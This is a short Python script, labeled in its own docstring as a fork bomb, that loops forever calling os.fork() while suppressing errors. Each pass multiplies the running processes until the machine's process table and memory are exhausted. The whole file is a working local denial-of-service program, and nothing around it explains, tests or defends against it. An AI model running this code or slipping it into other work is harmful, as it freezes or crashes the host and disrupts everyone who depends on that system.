"""A fork bomb."""
import contextlib
import os
import time

while True:
    with contextlib.suppress(OSError):
        os.fork()
    time.sleep(0.02)
